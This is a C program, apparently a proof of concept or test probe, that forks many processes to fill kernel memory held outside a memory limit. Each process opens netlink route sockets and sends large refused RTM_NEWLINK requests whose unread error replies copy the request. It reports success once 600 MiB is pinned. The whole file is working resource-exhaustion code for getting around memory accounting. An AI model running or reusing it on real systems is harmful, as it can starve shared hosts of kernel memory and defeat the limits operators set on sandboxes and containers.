/* Kernel memory in unread answers on netlink sockets. */
#define _GNU_SOURCE
#include <errno.h>
#include <fcntl.h>
#include <linux/netlink.h>
#include <linux/rtnetlink.h>
#include <stdio.h>
#include <string.h>
#include <sys/mman.h>
#include <sys/socket.h>
#include <unistd.h>

static long held(int fd)
{
    unsigned info[16] = {0};
    socklen_t length = sizeof info;
    getsockopt(fd, SOL_SOCKET, SO_MEMINFO, info, &length);
    return (long)info[0] + info[5];
}

int main(void)
{
    static struct { struct nlmsghdr head; char body[60000]; } message;
    message.head.nlmsg_len = sizeof message;
    message.head.nlmsg_type = RTM_NEWLINK; /* refused, and answered with a copy */
    message.head.nlmsg_flags = NLM_F_REQUEST | NLM_F_ACK;
    long want = 600l << 20;
    long *total = mmap(NULL, 4096, PROT_READ | PROT_WRITE, MAP_SHARED | MAP_ANONYMOUS, -1, 0);
    for (int i = 0; i < 20; i++) {
        if (fork() != 0)
            continue;
        for (int j = 0; j < 900 && *total < want; j++) {
            int fd = socket(AF_NETLINK, SOCK_RAW, NETLINK_ROUTE);
            if (fd < 0)
                break;
            int size = 1 << 20;
            setsockopt(fd, SOL_SOCKET, SO_SNDBUF, &size, sizeof size);
            fcntl(fd, F_SETFL, O_NONBLOCK);
            for (int k = 0; k < 8; k++)
                if (send(fd, &message, sizeof message, 0) < 0)
                    break;
            __sync_fetch_and_add(total, held(fd));
        }
        pause();
    }
    for (long last = -1; last != *total; usleep(400000))
        last = *total;
    printf("%ld MiB in buffers\n%s\nDONE\n", *total >> 20, *total >= want ? "ACHIEVED more than twice the memory limit" : "denied");
    fflush(stdout);
    _exit(0);
}
